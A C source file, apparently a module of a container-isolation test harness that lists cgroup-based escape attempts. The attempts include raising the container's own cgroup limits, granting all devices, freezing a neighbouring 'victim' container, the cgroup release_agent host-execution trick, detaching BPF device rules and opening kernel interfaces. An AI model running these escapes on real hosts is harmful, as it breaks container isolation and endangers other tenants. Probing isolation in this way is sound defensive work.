/* cgroups: the container's own limits, groups of others, and the programs that guard its devices. */
#include "escape.h"
#include <linux/bpf.h>
#include <linux/perf_event.h>

static void raise_limit(const char *file, const char *value)
{
	char path[PATH_MAX];
	const char *own = cgroupfs();
	if (own == NULL) return;
	snprintf(path, sizeof(path), "%s/%s", own, file);
	if (!write_file(path, value)) note("%s", path);
	/* A mount without a cgroup namespace shows everything. */
	snprintf(path, sizeof(path), "%s/lxc.payload.%s/%s", own, container, file);
	write_file(path, value);
	snprintf(path, sizeof(path), "%s/lxc/%s/%s", own, container, file);
	write_file(path, value);
}

static void raise_pids(void) { raise_limit("pids.max", "4093"); }
static void raise_memory(void) { raise_limit("memory.max", "268419072"); }
static void raise_cpu(void) { raise_limit("cpu.weight", "9973"); }

/* The same on cgroup v1, in the hierarchies that the container sees or mounts. */
static void raise_v1(const char *controller, const char *file, const char *value)
{
	char path[PATH_MAX];
	static const char *const places[] = {"/sys/fs/cgroup", NULL};
	for (int i = 0; places[i] != NULL; i++) {
		snprintf(path, sizeof(path), "%s/%s/%s", places[i], controller, file);
		if (write_file(path, value)) return;
		snprintf(path, sizeof(path), "%s/%s/lxc/%s/%s", places[i], controller, container, file);
		if (write_file(path, value)) return;
	}
	const char *own = fresh("cgroup", controller);
	if (own == NULL) return;
	snprintf(path, sizeof(path), "%s/%s", own, file);
	if (!write_file(path, value)) note("%s", path);
	snprintf(path, sizeof(path), "%s/lxc/%s/%s", own, container, file);
	write_file(path, value);
}

static void raise_pids_v1(void) { raise_v1("pids", "pids.max", "4091"); }
static void raise_memory_v1(void) { raise_v1("memory", "memory.limit_in_bytes", "268402688"); }
static void allow_devices_v1(void) { raise_v1("devices", "devices.allow", "a *:* rwm"); }

static void leave(void)
{
	char path[PATH_MAX];
	const char *own = cgroupfs();
	if (own == NULL) return;
	static const char *const above[] = {"", "/..", "/../..", NULL};
	for (int i = 0; above[i] != NULL; i++) {
		snprintf(path, sizeof(path), "%s%s/cgroup.procs", own, above[i]);
		if (!write_file(path, "0")) note("%s", path);
	}
	linger();
}

static void make_group(void)
{
	char path[PATH_MAX];
	const char *own = cgroupfs();
	if (own == NULL) return;
	snprintf(path, sizeof(path), "%s/../%s", own, id);
	mkdir(path, 0755);
	snprintf(path, sizeof(path), "%s/%s", own, id);
	if (mkdir(path, 0755) != 0) note("mkdir");
}

static void freeze_other(void)
{
	char path[PATH_MAX];
	const char *own = cgroupfs();
	if (own == NULL) return;
	static const char *const above[] = {"", "/..", "/../..", NULL};
	for (int i = 0; above[i] != NULL; i++) {
		snprintf(path, sizeof(path), "%s%s/lxc.payload.victim/cgroup.freeze", own, above[i]);
		if (!write_file(path, "1")) note("%s", path);
		/* As LXC before 4.0 names it. */
		snprintf(path, sizeof(path), "%s%s/lxc/victim/cgroup.freeze", own, above[i]);
		write_file(path, "1");
	}
}

static void release_agent(void)
{
	char path[PATH_MAX];
	const char *own = fresh("cgroup", "none,name=escape");
	if (own == NULL) return;
	snprintf(path, sizeof(path), "%s/release_agent", own);
	if (!write_file(path, "/root/escape/agent")) note("release_agent");
	snprintf(path, sizeof(path), "%s/notify_on_release", own);
	write_file(path, "1");
	snprintf(path, sizeof(path), "%s/once", own);
	mkdir(path, 0755);
	snprintf(path, sizeof(path), "%s/once/notify_on_release", own);
	write_file(path, "1");
	snprintf(path, sizeof(path), "%s/once/cgroup.procs", own);
	pid_t child = fork();
	if (child == 0) {
		write_file(path, "0");
		_exit(0);
	}
	waitpid(child, NULL, 0);
	usleep(300000);
}

static int bpf(int command, union bpf_attr *attr) { return syscall(__NR_bpf, command, attr, sizeof(*attr)); }

/* Takes the device rules off the own group; with them gone the kernel's log can be opened. */
static void detach_rules(void)
{
	const char *own = cgroupfs();
	unsigned ids[16] = {0}, flags = 0;
	if (own == NULL) return;
	int group = open(own, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	union bpf_attr ask = {.query = {.target_fd = group, .attach_type = BPF_CGROUP_DEVICE}};
	ask.query.prog_ids = (unsigned long)ids;
	ask.query.prog_cnt = 16;
	if (bpf(BPF_PROG_QUERY, &ask) != 0) note("query");
	flags = ask.query.prog_cnt;
	bool detached = false;
	for (unsigned i = 0; i < flags && i < 16; i++) {
		union bpf_attr by_id = {.prog_id = ids[i]};
		int program = bpf(BPF_PROG_GET_FD_BY_ID, &by_id);
		union bpf_attr off = {
			.target_fd = group, .attach_bpf_fd = program, .attach_type = BPF_CGROUP_DEVICE};
		if (program >= 0 && bpf(BPF_PROG_DETACH, &off) == 0) detached = true;
		else note("detach");
	}
	if (!detached) return;
	char line[200];
	int fd = open_node(S_IFCHR, 1, 11, O_WRONLY);
	snprintf(line, sizeof(line), "<5>written-by-%s-%s\n", container, id);
	if (fd >= 0 && write(fd, line, strlen(line)) < 0) note("write");
}

/* Doors into the kernel that a container has no need of: a process that stays holds the descriptor. */
static void hold(int fd, const char *what)
{
	if (fd < 0) {
		note("%s", what);
		return;
	}
	fcntl(fd, F_SETFD, 0);
	linger();
}

static void load_program(void)
{
	struct bpf_insn code[] = {
		{.code = BPF_ALU | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0}, {.code = BPF_JMP | BPF_EXIT}};
	union bpf_attr attr = {.prog_type = BPF_PROG_TYPE_SOCKET_FILTER, .insn_cnt = 2};
	attr.insns = (unsigned long)code;
	attr.license = (unsigned long)"GPL";
	hold(bpf(BPF_PROG_LOAD, &attr), "bpf");
}

static void make_map(void)
{
	union bpf_attr attr = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
	hold(bpf(BPF_MAP_CREATE, &attr), "bpf");
}

static void perf_event(void)
{
	struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(attr)};
	attr.config = PERF_COUNT_SW_CPU_CLOCK;
	hold(syscall(__NR_perf_event_open, &attr, -1, 0, -1, 0), "perf_event_open");
}

static void fault_descriptor(void) { hold(syscall(__NR_userfaultfd, 0), "userfaultfd"); }

static void uring(void)
{
	char room[256] = {0};
	hold(syscall(__NR_io_uring_setup, 4, room), "io_uring_setup");
}

static void file_events(void) { hold(syscall(__NR_fanotify_init, 0, 0), "fanotify_init"); }

const struct attempt cgroups[] = {
	{"raise-pids", raise_pids},
	{"raise-memory", raise_memory},
	{"raise-cpu", raise_cpu},
	{"raise-pids-v1", raise_pids_v1},
	{"raise-memory-v1", raise_memory_v1},
	{"allow-devices-v1", allow_devices_v1},
	{"leave-group", leave},
	{"make-group", make_group},
	{"freeze-other", freeze_other},
	{"release-agent", release_agent},
	{"bpf-detach", detach_rules},
	{"bpf-program", load_program},
	{"bpf-map", make_map},
	{"perf-event", perf_event},
	{"userfaultfd", fault_descriptor},
	{"io-uring", uring},
	{"fanotify", file_events},
	{NULL, NULL},
};
